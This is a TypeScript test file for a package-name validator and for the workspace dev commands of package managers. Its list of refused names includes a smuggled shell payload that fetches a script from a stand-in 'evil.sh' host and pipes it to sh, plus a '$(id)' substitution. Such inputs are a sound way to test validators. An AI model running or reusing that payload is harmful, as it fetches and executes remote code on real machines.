import { builtinModules } from 'node:module';
import fc from 'fast-check';
import { isValidPackageName } from './packageName';
import {
  packageManagerOfPackageJson,
  workspaceDevArgv,
} from './packageManager';

// npm's own validator, as the specification of the names npm accepts (it has no type declarations)
// eslint-disable-next-line @typescript-eslint/no-require-imports
const validate: (name: string) => {
  validForNewPackages: boolean;
  errors?: string[];
  warnings?: string[];
} = require('validate-npm-package-name');

/** npm's own rule for a new package, less the core-module warning (a workspace may be `http`). */
function npmAccepts(name: string): boolean {
  const result = validate(name);
  if (result.validForNewPackages) return true;
  const warnings = result.warnings ?? [];
  return (
    (result.errors ?? []).length === 0 &&
    warnings.length > 0 &&
    warnings.every(w => w.endsWith('is a core module name'))
  );
}

describe('isValidPackageName', () => {
  it.each(['@synestra/corporate-website', 'corporate', 'web-core.app', 'http'])(
    'accepts %s',
    name => {
      expect(isValidPackageName(name)).toBe(true);
    },
  );

  it.each([
    'x;curl${IFS}-s${IFS}evil.sh|sh;#',
    '$(id)',
    'Corporate',
    ' corporate',
    '.hidden',
    '_private',
    '-rf',
    'shop...',
    '@scope/-x',
    'a/b',
    "o'brien",
    '',
    'x'.repeat(215),
    42,
    undefined,
  ])('refuses %j', name => {
    expect(isValidPackageName(name)).toBe(false);
  });

  it('agrees with validate-npm-package-name, but for names a workspace filter would misread', () => {
    const misread = (name: string) =>
      name.startsWith('-') || name.endsWith('.') || /\/-/.test(name);
    const names = fc.oneof(
      fc.string(),
      fc.stringMatching(
        /^@?[a-zA-Z0-9._~!*'()-]{0,8}\/?[a-zA-Z0-9._~!*'()-]{0,8}$/,
      ),
      fc.constantFrom(...builtinModules),
    );
    fc.assert(
      fc.property(names, name => {
        expect(isValidPackageName(name)).toBe(
          npmAccepts(name) && !misread(name),
        );
      }),
      { numRuns: 5000 },
    );
  });
});

describe('package manager', () => {
  it.each([
    ['{"packageManager":"pnpm@9.15.0"}', 'pnpm'],
    ['{"packageManager":"yarn@4.5.0+sha512.abc"}', 'yarn'],
    ['{"packageManager":"npm@10.9.0"}', 'npm'],
    ['{"packageManager":"bun@1.1.0"}', 'bun'],
    ['{"packageManager":"deno@2"}', undefined],
    ['{"packageManager":7}', undefined],
    ['{"name":"x"}', undefined],
    ['not json', undefined],
    [undefined, undefined],
  ])('reads the packageManager field of %s', (content, name) => {
    expect(packageManagerOfPackageJson(content)).toBe(name);
  });

  it('builds each tool’s documented workspace dev command', () => {
    expect(workspaceDevArgv('pnpm', 'a')).toEqual([
      'pnpm',
      '--filter',
      'a',
      'dev',
    ]);
    expect(workspaceDevArgv('yarn', 'a')).toEqual([
      'yarn',
      'workspace',
      'a',
      'dev',
    ]);
    expect(workspaceDevArgv('npm', 'a')).toEqual([
      'npm',
      'run',
      'dev',
      '--workspace',
      'a',
    ]);
    expect(workspaceDevArgv('bun', 'a')).toEqual([
      'bun',
      '--filter',
      'a',
      'dev',
    ]);
  });
});
